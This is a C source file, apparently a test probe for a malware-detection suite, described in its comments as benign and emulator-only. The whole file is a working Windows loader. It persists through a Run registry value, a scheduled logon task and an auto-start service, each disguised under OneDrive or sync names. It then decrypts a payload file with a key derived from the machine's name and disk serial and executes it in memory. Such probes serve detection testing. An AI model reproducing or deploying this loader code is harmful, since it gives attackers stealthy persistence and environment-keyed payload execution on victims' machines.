/*
 * loader.c - probe: environment-keyed decryption plus three persistence steps (benign,
 * emulator-only; see ../../lineage-common/common.h).
 *
 * Persists three ways, as loaders do before their payload: a Run value (HKCU ...\Run
 * "OneDriveSync" = its own path), a scheduled task (CreateProcessA of schtasks.exe /create ...
 * /sc onlogon) and a service (OpenSCManagerA + CreateServiceA, auto start). Then derives a key
 * from the machine: byte i of GetComputerNameA's name XOR byte i%4 of the C: volume's serial
 * (GetVolumeInformationA), as long as the name. C:\ProgramData\SyncCache\cache.bin holds the
 * payload XORed with that key: read into a heap block, decoded into new RW memory, made
 * PAGE_EXECUTE_READ, run in a thread. On another machine the bytes decode to garbage (T1480.001).
 * The stage writes C:\Users\Public\lineage_keyed.txt.
 * Exit codes: 0 ok, 1 no marker, 2 identity, 3 file, 4 memory, 5 thread.
 */
#include "common.h"

void Entry(void)
{
    static struct sc_ctx ctx;
    static char self[MAX_PATH], cmd[2 * MAX_PATH];
    char name[MAX_COMPUTERNAME_LENGTH + 1];
    unsigned char key[MAX_COMPUTERNAME_LENGTH + 1];
    DWORD name_len = sizeof(name), serial = 0, size, n = 0, i, old, klen;
    HKEY run;
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    SC_HANDLE scm, svc;
    HANDLE f, thread;
    unsigned char *raw, *code;

    if (!marker_present())
        ExitProcess(1);
    GetModuleFileNameA(0, self, sizeof(self));

    if (RegCreateKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 0, 0,
                        KEY_SET_VALUE, 0, &run, 0) == ERROR_SUCCESS) {
        for (i = 0; self[i]; i++)
            ;
        RegSetValueExA(run, "OneDriveSync", 0, REG_SZ, (const BYTE *)self, i + 1);
        RegCloseKey(run);
    }
    copy_str(cmd, "schtasks.exe /create /f /sc onlogon /tn \"OneDrive Sync\" /tr \"", sizeof(cmd));
    for (n = 0; cmd[n]; n++)
        ;
    for (i = 0; self[i] && n < sizeof(cmd) - 2; i++)
        cmd[n++] = self[i];
    cmd[n++] = '"';
    cmd[n] = 0;
    for (i = 0; i < sizeof(si); i++)
        ((char *)&si)[i] = 0;
    si.cb = sizeof(si);
    if (CreateProcessA(0, cmd, 0, 0, FALSE, CREATE_NO_WINDOW, 0, 0, &si, &pi)) {
        WaitForSingleObject(pi.hProcess, 5000);
        CloseHandle(pi.hThread);
        CloseHandle(pi.hProcess);
    }
    scm = OpenSCManagerA(0, 0, SC_MANAGER_CREATE_SERVICE);
    if (scm) {
        svc = CreateServiceA(scm, "SyncCacheSvc", "Sync Cache Service", SERVICE_ALL_ACCESS,
                             SERVICE_WIN32_OWN_PROCESS, SERVICE_AUTO_START, SERVICE_ERROR_IGNORE, self, 0, 0, 0, 0, 0);
        if (svc)
            CloseServiceHandle(svc);
        CloseServiceHandle(scm);
    }

    if (!GetComputerNameA(name, &name_len) || name_len == 0 ||
        !GetVolumeInformationA("C:\\", 0, 0, &serial, 0, 0, 0, 0))
        ExitProcess(2);
    klen = name_len;
    for (i = 0; i < klen; i++)
        key[i] = (unsigned char)name[i] ^ (unsigned char)(serial >> (8 * (i & 3)));

    f = CreateFileA("C:\\ProgramData\\SyncCache\\cache.bin", GENERIC_READ, FILE_SHARE_READ, 0, OPEN_EXISTING,
                    FILE_ATTRIBUTE_NORMAL, 0);
    if (f == INVALID_HANDLE_VALUE)
        ExitProcess(3);
    size = GetFileSize(f, 0);
    if (size == INVALID_FILE_SIZE || size < 64)
        ExitProcess(3);
    raw = (unsigned char *)HeapAlloc(GetProcessHeap(), 0, size);
    if (!raw || !ReadFile(f, raw, size, &n, 0) || n != size)
        ExitProcess(3);
    CloseHandle(f);
    code = (unsigned char *)VirtualAlloc(0, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!code)
        ExitProcess(4);
    for (i = 0; i < size; i++)
        code[i] = raw[i] ^ key[i % klen];
    if (!VirtualProtect(code, size, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_keyed.txt", "decrypted with a key of this machine\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)code, &ctx, 0, 0);
    if (!thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
